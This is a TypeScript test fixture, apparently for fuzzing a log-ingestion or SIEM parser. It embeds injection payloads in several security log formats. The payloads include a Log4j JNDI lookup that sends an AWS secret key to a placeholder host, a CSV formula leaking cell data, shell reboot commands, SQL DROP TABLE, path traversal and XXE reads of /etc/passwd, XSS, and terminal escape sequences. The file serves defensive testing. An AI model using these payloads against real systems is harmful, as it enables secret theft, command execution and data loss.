/** Texts that do harm where they are taken for something other than text. Built from code points, so that this file itself stays harmless. */
const ESC = "\u001b";
const BEL = "\u0007";

export const INJECTIONS: Readonly<Record<string, string>> = {
  "html script": "<script>alert(document.domain)</script>",
  "html attribute": `"><img src=x onerror=alert(1)>'"`,
  "svg onload": "<svg/onload=alert(1)><foreignObject>",
  "html entity and comment": "--><!--&lt;script&gt;<![CDATA[<b>]]>",
  "javascript url": "javascript:alert(1)//%0aalert(2)",
  "template braces": "{{constructor.constructor('return 1')()}}${7*7}#{7*7}<%= 7*7 %>",
  "icu message": "{count, plural, one {#} other {{x}}}'{",
  "csv formula": '=HYPERLINK("http://192.0.2.1/?x="&A1,"ok")',
  "csv dde": "+cmd|' /C calc'!A0",
  "csv minus and at": "-2+3+cmd|x!A0@SUM(1)",
  "csv quote and newline": '","x"\r\n"=1+1"',
  "ansi colours and clear": `${ESC}[2J${ESC}[31mowned${ESC}[0m`,
  "terminal title": `${ESC}]0;owned${BEL}${ESC}]52;c;b3duZWQ=${BEL}`,
  "c1 control sequence": "\u009b31m\u009d0;owned\u009c",
  "bidi override": "invoice\u202etxt.exe\u2066\u2069\u200f",
  "invisible and homoglyph": "\u200b\u2060\ufeffаdmin\u00ad",
  zalgo: `a${"\u0301".repeat(500)}`,
  log4j: "${jndi:ldap://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}}",
  "log4j nested": "${${::-j}${lower:N}di:${lower:r}mi://192.0.2.1/a}",
  sql: "'; DROP TABLE events; -- \" OR 1=1 UNION SELECT * FROM auth_users",
  shell: "$(reboot);`reboot`|reboot&&reboot\n#",
  path: "../../../../etc/passwd\\..\\..\\windows\\win.ini",
  "format string": "%s%n%x%p{0}{}%00",
  "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  "nul and controls": "a\u0000b\u0001c\u0008d\u000be\u007f",
  "line separators": "a\u2028b\u2029c\u0085d",
  "lone surrogates": "\ud800x\udfff",
  noncharacters: "\ufffe\uffff\u{10ffff}",
};

/** One line per format that carries a text in every place a sender controls. */
export const CARRIERS: Readonly<Record<string, { readonly type: string; line(text: string): string }>> = {
  "nxlog json": {
    type: "application/x-ndjson",
    line: (text) =>
      JSON.stringify({
        EventTime: text,
        Hostname: text,
        EventID: 4688,
        Channel: "Security",
        SourceName: text,
        CommandLine: text,
        NewProcessName: text,
        SubjectUserName: text,
        Message: text,
        [text]: text,
      }),
  },
  "nested event json": {
    type: "application/x-ndjson",
    line: (text) =>
      JSON.stringify({
        Event: {
          System: {
            EventID: 1,
            Computer: text,
            Channel: "Microsoft-Windows-Sysmon/Operational",
            Provider: { "#attributes": { Name: text } },
          },
          EventData: { Image: text, User: text, [text]: [text, { [text]: text }] },
        },
      }),
  },
  "suricata eve": {
    type: "application/x-ndjson",
    line: (text) =>
      JSON.stringify({
        timestamp: text,
        event_type: "alert",
        src_ip: text,
        dest_ip: text,
        proto: text,
        alert: { signature: text, category: text, metadata: { [text]: [text] } },
        http: { hostname: text, url: text },
      }),
  },
  "zeek json": {
    type: "application/x-ndjson",
    line: (text) =>
      JSON.stringify({
        _path: "http",
        ts: 1_795_064_400,
        uid: text,
        "id.orig_h": text,
        host: text,
        uri: text,
        user_agent: text,
        [text]: text,
      }),
  },
  cloudtrail: {
    type: "application/x-ndjson",
    line: (text) =>
      JSON.stringify({
        eventVersion: "1.08",
        eventSource: "s3.amazonaws.com",
        eventName: text,
        awsRegion: text,
        userIdentity: { userName: text, arn: text },
        requestParameters: { [text]: text },
      }),
  },
  "plain text": { type: "text/plain", line: (text) => oneLine(`<13>Nov 21 08:00:00 ${text} ${text}[1]: ${text}`) },
};

function oneLine(text: string): string {
  return text.replaceAll("\n", " ").toWellFormed();
}
